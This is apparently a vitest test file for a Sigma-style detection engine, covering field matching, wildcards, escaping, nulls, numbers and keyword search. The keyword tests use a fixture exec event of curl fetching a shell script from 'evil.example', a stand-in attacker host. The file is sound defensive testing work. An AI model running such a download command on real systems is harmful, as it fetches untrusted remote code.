import { describe, expect, it } from 'vitest';
import { compileDetection } from '../../src/detection/index.js';
import { CTX, NATIVE, compileError, event, matcher } from './helpers.js';

/** A native `open` rule with one item on `event.open.<field>`; returns a tester over payload values. */
function on(key: string, value: unknown, placeholders?: Record<string, string[]>) {
  const [f, ...mods] = key.split('|');
  const m = matcher(
    { sel: { [['event.open.' + f, ...mods].join('|')]: value }, condition: 'sel' },
    NATIVE('open'),
    placeholders,
  );
  return (fieldValue: unknown) => m(event('open', fieldValue === undefined ? {} : { [f]: fieldValue }));
}

describe('maps, lists and case', () => {
  it('a map is AND of its items', () => {
    const m = matcher({ sel: { 'event.open.a': 'x', 'event.open.b': 'y' }, condition: 'sel' }, NATIVE('open'));
    expect(m(event('open', { a: 'x', b: 'y' }))).toBe(true);
    expect(m(event('open', { a: 'x', b: 'z' }))).toBe(false);
  });
  it('a list of values under one field is OR', () => {
    const t = on('a', ['x', 'y']);
    expect(t('x')).toBe(true);
    expect(t('y')).toBe(true);
    expect(t('z')).toBe(false);
  });
  it('a list of maps is OR of the maps', () => {
    const m = matcher({ sel: [{ 'event.open.a': 'x' }, { 'event.open.b': 'y' }], condition: 'sel' }, NATIVE('open'));
    expect(m(event('open', { a: 'x' }))).toBe(true);
    expect(m(event('open', { b: 'y' }))).toBe(true);
    expect(m(event('open', { a: 'y', b: 'x' }))).toBe(false);
  });
  it('strings compare case-insensitively by default', () => {
    expect(on('a', 'HeLLo')('hello')).toBe(true);
    expect(on('a', 'hello')('HELLO')).toBe(true);
    expect(on('a|contains', 'ELL')('hello')).toBe(true);
  });
  it('a plain value is equality of the whole value', () => {
    expect(on('a', 'ell')('hello')).toBe(false);
    expect(on('a', 'hello')('hello!')).toBe(false);
  });
  it("'' matches only an empty string", () => {
    const t = on('a', '');
    expect(t('')).toBe(true);
    expect(t('x')).toBe(false);
    expect(t(undefined)).toBe(false);
  });
});

describe('wildcards and escaping (pySigma SigmaString)', () => {
  it('* matches any run including the empty one', () => {
    const t = on('a', 'a*c');
    expect(t('ac')).toBe(true);
    expect(t('abbbc')).toBe(true);
    expect(t('ab')).toBe(false);
  });
  it('? matches exactly one character', () => {
    const t = on('a', 'a?c');
    expect(t('abc')).toBe(true);
    expect(t('ac')).toBe(false);
    expect(t('abbc')).toBe(false);
  });
  it('several * segments match in order without overlap', () => {
    const t = on('a', '*ab*ab*');
    expect(t('xabyab')).toBe(true);
    expect(t('xab')).toBe(false);
    const u = on('a', 'ab*ba');
    expect(u('aba')).toBe(false); // prefix and suffix may not share characters
    expect(u('abba')).toBe(true);
  });
  it('wildcards span newlines', () => {
    expect(on('a', 'a*b')('a\nb')).toBe(true);
    expect(on('a', 'a?b')('a\nb')).toBe(true);
  });
  it('\\* and \\? are literal', () => {
    expect(on('a', 'a\\*b')('a*b')).toBe(true);
    expect(on('a', 'a\\*b')('axb')).toBe(false);
    expect(on('a', 'a\\?b')('a?b')).toBe(true);
    expect(on('a', 'a\\?b')('axb')).toBe(false);
  });
  it('\\\\ is one literal backslash, so C:\\\\Windows equals C:\\Windows', () => {
    expect(on('a', 'C:\\\\Windows')('C:\\Windows')).toBe(true);
    expect(on('a', 'C:\\Windows')('C:\\Windows')).toBe(true);
  });
  it('a backslash before another character stays literal', () => {
    expect(on('a', 'C:\\Windows\\System32')('c:\\windows\\system32')).toBe(true);
  });
  it('\\\\* is a literal backslash followed by a wildcard', () => {
    const t = on('a', 'a\\\\*');
    expect(t('a\\anything')).toBe(true);
    expect(t('a*')).toBe(false);
  });
  it('\\\\\\* is a literal backslash and a literal star', () => {
    const t = on('a', 'a\\\\\\*');
    expect(t('a\\*')).toBe(true);
    expect(t('a\\x')).toBe(false);
  });
  it('\\\\\\\\* is two literal backslashes then a wildcard', () => {
    const t = on('a', 'a\\\\\\\\*');
    expect(t('a\\\\zz')).toBe(true);
    expect(t('a\\zz')).toBe(false);
  });
  it('a trailing backslash is literal', () => {
    expect(on('a', 'dir\\')('dir\\')).toBe(true);
    expect(on('a|endswith', '\\')('c:\\dir\\')).toBe(true);
  });
  it('% is literal without expand', () => {
    expect(on('a', '%foo%')('%foo%')).toBe(true);
  });
  it('regex metacharacters in values are literal', () => {
    expect(on('a', 'a.b(c)?')('a.b(c)x')).toBe(true);
    expect(on('a', 'a.b(c)?')('axb(c)x')).toBe(false);
  });
});

describe('null, empty lists and existence', () => {
  it('null matches an absent field or a JSON null', () => {
    const t = on('a', null);
    expect(t(undefined)).toBe(true);
    expect(t(null)).toBe(true);
    expect(t('')).toBe(false);
    expect(t('x')).toBe(false);
  });
  it("['', null] matches empty, null and absent (pySigma accepts it)", () => {
    const t = on('a', ['', null]);
    expect(t('')).toBe(true);
    expect(t(undefined)).toBe(true);
    expect(t('x')).toBe(false);
  });
  it('an empty list `field: []` is `field is null`', () => {
    const t = on('a', []);
    expect(t(undefined)).toBe(true);
    expect(t(null)).toBe(true);
    expect(t([])).toBe(true);
    expect(t('x')).toBe(false);
  });
  it('"not null" is written as a negated selection', () => {
    const m = matcher({ sel: { 'event.open.a': null }, condition: 'not sel' }, NATIVE('open'));
    expect(m(event('open', { a: 'x' }))).toBe(true);
    expect(m(event('open', {}))).toBe(false);
  });
  it('an empty selection is an error', () => {
    expect(compileError(() => matcher({ sel: {}, condition: 'sel' })).code).toBe('NJ_EMPTY_SELECTION');
    expect(compileError(() => matcher({ sel: [], condition: 'sel' })).code).toBe('NJ_EMPTY_SELECTION');
    expect(compileError(() => matcher({ sel: null, condition: 'sel' })).code).toBe('NJ_EMPTY_SELECTION');
  });
});

describe('numbers and booleans', () => {
  it('a number matches the numeric and the string form', () => {
    const t = on('a', 42);
    expect(t(42)).toBe(true);
    expect(t('42')).toBe(true);
    expect(t('42.0')).toBe(true);
    expect(t(43)).toBe(false);
  });
  it('a quoted number matches a numeric field', () => {
    const t = on('a', '42');
    expect(t(42)).toBe(true);
    expect(t('42')).toBe(true);
  });
  it('numbers work with string modifiers on their decimal form', () => {
    expect(on('a|startswith', 12)(1234)).toBe(true);
    expect(on('a|endswith', 34)('1234')).toBe(true);
  });
  it('booleans match booleans and their string form', () => {
    const t = on('a', true);
    expect(t(true)).toBe(true);
    expect(t('True')).toBe(true);
    expect(t(false)).toBe(false);
    expect(on('a', false)(false)).toBe(true);
  });
});

describe('list-valued fields', () => {
  it('match when any element matches', () => {
    const t = on('a', 'b');
    expect(t(['a', 'b', 'c'])).toBe(true);
    expect(t(['a', 'c'])).toBe(false);
    expect(t([])).toBe(false);
  });
  it('with all, each value may be matched by a different element', () => {
    const t = on('a|contains|all', ['x', 'y']);
    expect(t(['ax', 'by'])).toBe(true);
    expect(t(['ax', 'bz'])).toBe(false);
  });
  it('nested lists are flattened', () => {
    expect(on('a', 'z')([['x'], ['y', ['z']]])).toBe(true);
  });
  it('event.exec.args matches per argument', () => {
    const m = matcher({ sel: { 'event.exec.args': '-c' }, condition: 'sel' });
    const ev = event('exec', { args: ['/bin/sh', '-c', 'id'], target: {} });
    expect(m(ev)).toBe(true);
  });
});

describe('keywords', () => {
  const kw = (values: unknown, key?: string) =>
    matcher({ keywords: key ? { [key]: values } : values, condition: 'keywords' }, NATIVE('exec'));
  const ev = event('exec', {
    args: ['/usr/bin/curl', '-sL', 'http://evil.example/x.sh'],
    target: { executable: { path: '/usr/bin/curl' } },
  });
  it('search every string of the event as a substring', () => {
    expect(kw(['evil.example'])(ev)).toBe(true);
    expect(kw(['usr/bin/cu'])(ev)).toBe(true);
    expect(kw(['nothere'])(ev)).toBe(false);
  });
  it('are case-insensitive and ORed', () => {
    expect(kw(['NOTHERE', 'EVIL.EXAMPLE'])(ev)).toBe(true);
  });
  it('also search the exec command line (args joined by spaces)', () => {
    expect(kw(['curl -sL http'])(ev)).toBe(true);
  });
  it("'|all' makes a keyword list AND", () => {
    expect(kw(['curl', 'evil'], '|all')(ev)).toBe(true);
    expect(kw(['curl', 'nothere'], '|all')(ev)).toBe(false);
  });
  it('keywords with wildcards must match one whole string', () => {
    expect(kw(['http://*.example/*'])(ev)).toBe(true);
  });
  it('are reported in info', () => {
    const d = compileDetection({
      detection: { keywords: ['a', 'b'], condition: 'keywords' },
      logsource: NATIVE('exec'),
      fieldMapping: null,
    });
    expect(d.info.keywords).toEqual([{ selection: 'keywords', values: ['a', 'b'], all: false }]);
    expect(d.match(event('exec', { args: ['xa'] }), CTX)).toBe(true);
  });
});
